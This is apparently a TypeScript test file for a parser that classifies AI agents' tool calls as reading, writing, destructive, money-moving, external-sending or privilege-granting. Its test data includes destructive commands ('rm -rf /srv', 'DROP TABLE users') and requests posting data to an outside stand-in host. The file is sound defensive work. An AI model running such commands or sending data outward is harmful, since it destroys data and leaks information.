// What calls of tools ask for: by their names, by the code that they are given, and not by what they tell people.
import { expect } from 'chai';
import { toldIn } from '../../../shared/core/intent/code/tool-calls.ts';
import { compileLexicon } from '../../../shared/core/intent/lexicon/lexicon.ts';
import { parseIntent } from '../../../shared/core/intent/parse.ts';
import { lexiconJson } from './lexicon.ts';

const lexicon = compileLexicon(lexiconJson());

/** Ways to write a call. */
const FORMS: readonly ((name: string, given: object) => string)[] = [
  (name, given) => JSON.stringify({ name, arguments: given }),
  (name, given) => JSON.stringify({ tool: name, args: given }, undefined, 2),
  (name, given) => JSON.stringify({ recipient_name: name, parameters: given }),
  (name, given) => JSON.stringify({ function: { name, arguments: JSON.stringify(given) } }),
  (name, given) =>
    JSON.stringify({ jsonrpc: '2.0', id: 879, method: 'tools/call', params: { name, arguments: given } }),
  (name, given) => `<tool_call>${JSON.stringify({ name, arguments: given })}</tool_call>`,
];
const effectsOf = (name: string, given: object) => FORMS.map((form) => parseIntent(form(name, given), lexicon));

describe('a call of a tool', () => {
  it('is read by its verb, wherever that is in its name', () => {
    for (const name of ['mail_search', 'paypal_list_transactions', 'chat_read', 'git_log'])
      for (const { action, effect } of effectsOf(name, { id: '7' }))
        expect([name, action, effect]).to.deep.equal([name, 'read', 'read']);
    for (const { action, effect } of effectsOf('order_update_status', { status: 'packed' }))
      expect([action, effect]).to.deep.equal(['update', 'write']);
  });

  it('moves money or destroys by its name, wherever that says so', () => {
    for (const name of [
      'transfer_create',
      'refund_create',
      'order_approve_payment',
      'record_delete',
      'checkout_complete',
    ])
      for (const { action, effect } of effectsOf(name, { id: '7' }))
        expect(effect === 'destructive' || action === 'transfer' || action === 'unknown', name).to.equal(true);
  });

  it('asks for nothing by what it tells people, or by the name of a branch', () => {
    for (const [name, given] of [
      ['add_comment', { issue: 'OPS-4', text: 'Please delete the second exclamation mark.' }],
      ['create_branch', { repo: 'scales', branch: 'feat/remove-label' }],
    ] as const)
      for (const { effect, flags } of effectsOf(name, given)) {
        expect(effect, name).to.equal('write');
        expect(flags, name).not.to.include('destructive_words');
      }
  });

  it('does what the code does that it is given, in whatever argument', () => {
    for (const given of [
      { path: 'clean.sh', content: 'rm -rf /srv/data' },
      { id: 4, entry: 'cd /srv && rm -rf data' },
      { id: 4, args: ['rm', '-rf', '/srv'] },
      { title: 'tidy', note: 'DROP TABLE users' },
    ])
      for (const { effect } of effectsOf('update_task', given))
        expect(effect, JSON.stringify(given)).to.equal('destructive');
  });

  it('tells people nothing in a message that a bot may carry out', () => {
    const spans = (text: string) => toldIn(JSON.stringify({ text }), (key) => key === 'text');
    expect(spans('Please delete it')).to.have.length(1);
    for (const text of ['/delete-branch main', '@ops-bot stop it', '!purge'])
      expect(spans(text), text).to.deep.equal([]);
  });
});

describe('a request that gives something away', () => {
  it('is one that sends, when its body names somebody outside who gets it, or is only known at run time', () => {
    for (const text of [
      'POST /exports {"dataset": "orders", "callback_url": "https://outside.example/in"}',
      'POST /webhooks {"url": "https://collector.outside.example", "events": ["order.paid"]}',
      "axios.post('https://outside.example', {text})",
      "axios.post('https://outside.example/v1', { text: report })",
      'requests.post("https://outside.example/p", json={"rows": rows})',
    ]) {
      const { action, traits } = parseIntent(text, lexicon);
      expect([action, traits.includes('external')], text).to.deep.equal(['send', true]);
    }
    for (const text of ["axios.post('/api/comments', { text })", 'POST /webhooks {"url": "https://ci.internal/hook"}'])
      expect(parseIntent(text, lexicon).traits, text).not.to.include('external');
  });

  it('grants when it raises the level of a member', () => {
    expect(parseIntent('PUT /members/12 {"access_level": 50}', lexicon).action).to.equal('grant');
  });
});
